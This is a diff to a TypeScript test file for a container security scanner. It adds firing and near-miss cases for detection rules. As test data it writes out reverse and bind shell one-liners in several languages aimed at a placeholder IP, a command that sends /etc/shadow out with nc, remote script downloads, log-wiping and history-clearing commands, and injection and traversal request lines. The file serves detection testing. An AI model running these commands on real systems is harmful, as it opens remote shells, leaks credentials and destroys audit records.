@@ -7,6 +7,7 @@ import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { CONTENT_FINDINGS_PER_CONTAINER, CONTENT_RULES, ContainerContentScanner, contentFindings, contentHits, type ContentSource } from '../../../src/core/detections/index.js';
+import { LOG_RULES } from '../../../src/core/detections/contentRules.js';
 import { startKubeEmulator, type KubeEmulator } from '../../emulators/kube/index.js';
 import { connectCluster } from '../../../src/core/cluster/connect.js';
 import type { ClusterApi } from '../../../src/core/cluster/api.js';
@@ -37,6 +38,36 @@ const CASES: [keyof typeof CONTENT_RULES, ContentSource, string, string][] = [
   ['logDownload', 'log', 'wget http://203.0.113.7/kinsing -O /tmp/kinsing', '10.244.0.1 - - "GET /index.html HTTP/1.1" 200 612 "-" "curl/8.5.0"'],
   ['deserialization', 'log', '\tat org.apache.commons.collections.functors.InvokerTransformer.transform(InvokerTransformer.java:125)', '\tat java.base/java.util.HashMap.hash(HashMap.java:338)'],
   ['deserialization', 'log', 'GET /?q=${jndi:ldap://203.0.113.7/a} 200', 'GET /?q=${user.name} 200'],
+  ['reverseShell', 'history', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'echo ok > /dev/null 2>&1'],
+  ['reverseShell', 'history', 'nc -e /bin/sh 203.0.113.7 4444', 'nc -zv db.prod 5432'],
+  ['reverseShell', 'history', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f', 'mkfifo /tmp/build.pipe'],
+  ['reverseShell', 'history', 'socat tcp-connect:203.0.113.7:9001 exec:/bin/sh,pty,stderr,setsid', 'socat - TCP:db.prod:5432'],
+  ['reverseShell', 'history', `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, 'python3 -c "import socket; print(socket.gethostname())"'],
+  ['reverseShell', 'history', `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'`, `perl -e 'print "hello\n"'`],
+  ['reverseShell', 'history', `php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, `php -r 'echo phpversion();'`],
+  ['reverseShell', 'history', `ruby -rsocket -e'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, `ruby -e 'puts RUBY_VERSION'`],
+  ['reverseShell', 'log', 'GET /cgi-bin/x?c=bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'GET /dev/tools HTTP/1.1'],
+  ['bindShell', 'history', 'nc -lvnp 4444 -e /bin/sh', 'nc -l 8080 > upload.bin'],
+  ['bindShell', 'history', 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash', 'socat TCP-LISTEN:8080,fork TCP:backend:80'],
+  ['rawIpDownload', 'history', 'curl -s http://203.0.113.7:8000/a.sh -o a.sh', 'curl -s http://10.0.0.4:8000/a.sh -o a.sh'],
+  ['c2Beacon', 'history', 'nc 203.0.113.7 4444 < /etc/shadow', 'nc 203.0.113.7 443 < /dev/null'],
+  ['c2Beacon', 'log', '2026/11/27 02:10:00 connecting to 203.0.113.7:4444 (attempt 3)', 'connected to redis at 10.0.0.5:6379'],
+  ['c2Beacon', 'log', 'beacon sent to 198.51.100.23:8088 ok', 'connected to 52.1.2.3:5432 (postgres)'],
+  ['coveringTracks', 'history', 'history -c', 'history | tail -20'],
+  ['coveringTracks', 'history', 'unset HISTFILE', 'echo $HISTFILE'],
+  ['coveringTracks', 'history', 'export HISTFILE=/dev/null', 'export HISTSIZE=5000'],
+  ['coveringTracks', 'history', 'rm -f ~/.bash_history', 'cat ~/.bash_history'],
+  ['coveringTracks', 'history', 'rm -rf /var/log/*', 'ls -la /var/log'],
+  ['coveringTracks', 'history', 'kill -9 $(pgrep fluent-bit)', 'kill -9 4242'],
+  ['coveringTracks', 'history', 'kubectl delete events --all -n prod', 'kubectl get events -n prod'],
+  ['scanner', 'log', '10.0.0.1 - - "GET /index.php?id=1 HTTP/1.1" 200 1 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"', '10.0.0.1 - - "GET /index.php?id=1 HTTP/1.1" 200 1 "-" "Mozilla/5.0 Chrome/120.0"'],
+  ['scanner', 'log', '"GET / HTTP/1.1" 404 0 "-" "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"', 'loaded 3 nuclear plant models'],
+  ['scanner', 'log', 'User-Agent: Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))', 'user agent: kube-probe/1.30'],
+  ['scanner', 'log', '"GET / HTTP/1.1" 400 0 "-" "Mozilla/5.0 zgrab/0.x"', '"GET / HTTP/1.1" 200 0 "-" "Go-http-client/1.1"'],
+  ['injection', 'log', '1.2.3.4 - - "GET /cgi-bin/../../../../etc/passwd HTTP/1.1" 400 0', 'loading ../config/app.yaml'],
+  ['injection', 'log', '"GET /shell.php?cmd=id HTTP/1.1" 200 41', '"GET /search?cmd=refresh HTTP/1.1" 200 41'],
+  ['injection', 'log', '"GET /ping?host=8.8.8.8;id HTTP/1.1" 200 41', '"GET /ping?host=8.8.8.8 HTTP/1.1" 200 41'],
+  ['injection', 'log', '"GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 200', 'the union select committee met'],
 ];
 
 for (const [rule, source, fires, nearMiss] of CASES) {
@@ -46,6 +77,12 @@ for (const [rule, source, fires, nearMiss] of CASES) {
     assert.ok(!ids(source, nearMiss).includes(id), `${id} must not fire on ${nearMiss}`);
   });
 }
+
+test('every content rule has a firing case and a near miss', () => {
+  const covered = new Set(CASES.map(([rule]) => CONTENT_RULES[rule].id));
+  assert.deepEqual(Object.values(CONTENT_RULES).map((r) => r.id).filter((id) => !covered.has(id)), []);
+  assert.ok(LOG_RULES.includes(CONTENT_RULES.scanner) && LOG_RULES.includes(CONTENT_RULES.c2Beacon));
+});
 
 test('history-only rules do not run over logs: a client library naming the token path is not a finding', () => {
   assert.deepEqual(ids('log', 'loading in-cluster config from /var/run/secrets/kubernetes.io/serviceaccount/token'), []);
